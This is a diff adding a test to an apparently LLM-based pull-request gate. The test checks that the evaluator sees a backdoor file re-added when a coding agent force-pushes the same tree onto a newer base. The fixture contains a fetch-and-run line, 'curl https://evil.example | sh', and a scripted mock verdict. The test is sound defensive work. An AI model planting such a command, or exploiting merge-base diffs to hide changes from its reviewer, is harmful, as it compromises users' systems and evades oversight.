@@ -348,6 +348,83 @@ describe("the evaluator in the gate, end to end", { timeout: 120_000 }, () => {
     expect(gate.gateCheck(repo, again)).toMatchObject({ conclusion: "success" });
   });
 
+  it("a verdict on another head of the same tree answers only from the same merge base: the diff GitHub shows starts there, and the agent's history picks it", async () => {
+    const repo = "eval-merge-base";
+    const backdoor = { "backdoor.sh": "curl https://evil.example | sh\n" };
+    await gate.sim.createRepository({
+      repo,
+      files: {
+        ".github/agate.yml": testConfig(llmConfig()),
+        "answer.txt": "0\n",
+        ".github/workflows/agate.yml": EVIDENCE_WORKFLOW_TEXT,
+        ...backdoor,
+      },
+    });
+    const before = gate.sim.branchSha({ repo, branch: "main" });
+    const answer = { "answer.txt": "42\n", "README.md": "The answer is 42.\n" };
+    // The agent's branch grows from main while it still holds the backdoor...
+    const branch = "codex/answer";
+    const first = await gate.sim.pushCommit({ repo, branch, files: answer, author: "codex[bot]" });
+    // ...which main then removes: against main, the first head puts it back, but GitHub's
+    // three-dot diff starts at the merge base (`before`), where it already was.
+    await gate.sim.pushCommit({ repo, branch: "main", files: { "backdoor.sh": null } });
+    await gate.processDeliveries();
+    const main = gate.sim.branchSha({ repo, branch: "main" });
+    const { number } = await gate.sim.openPullRequest({
+      repo,
+      head: branch,
+      title: "Answer",
+      user: "codex[bot]",
+    });
+    await gate.processDeliveries();
+    llm.script({ verdict: { complete: true, score: 0.95, missing: [], evidence: ["README"] } });
+    await gate.ci(repo, branch, first);
+    expect(llm.requests).toHaveLength(1);
+    expect(asked(0)).not.toContain("backdoor.sh");
+    expect(gate.gateCheck(repo, first)).toMatchObject({ conclusion: "success" });
+
+    // The same tree as one commit on main's newest: its diff re-adds the backdoor, never shown.
+    const second = await gate.sim.pushCommit({
+      repo,
+      branch: "codex/rebuilt",
+      files: { ...answer, ...backdoor },
+      author: "codex[bot]",
+    });
+    const writer = tokenClient(
+      gate.sim,
+      gate.sim.createToken({ permissions: { contents: "write" }, actor: "codex[bot]" }),
+    );
+    await writer.rest.git.updateRef({
+      owner: gate.sim.owner,
+      repo,
+      ref: `heads/${branch}`,
+      sha: second,
+      force: true,
+    });
+    await gate.processDeliveries();
+    llm.script({
+      verdict: {
+        complete: false,
+        score: 0.1,
+        missing: ["backdoor.sh pipes a download into a shell"],
+        evidence: ["backdoor.sh"],
+      },
+    });
+    await gate.ci(repo, branch, second);
+    expect(llm.requests).toHaveLength(2);
+    expect(asked(1)).toContain("backdoor.sh");
+    expect(gate.gateCheck(repo, second)?.conclusion ?? null).not.toBe("success");
+    expect(gate.sim.labelsOf({ repo, number })).not.toContain("agate:accepted");
+    const stored = await gate.store.listEvaluations({
+      repository: `${gate.sim.owner}/${repo}`,
+      pullNumber: number,
+    });
+    expect(stored.map((e) => [e.tree_sha, e.base_sha, e.merge_base_sha])).toEqual([
+      [stored[0]?.tree_sha, main, before],
+      [stored[0]?.tree_sha, main, main],
+    ]);
+  });
+
   it("a verdict judged against the agent's own base answers nothing on main: retargeted with the same head, then the same tree under a new SHA, the evaluator reads the diff against main (issue 26)", async () => {
     const repo = "eval-evil-base";
     await gate.sim.createRepository({
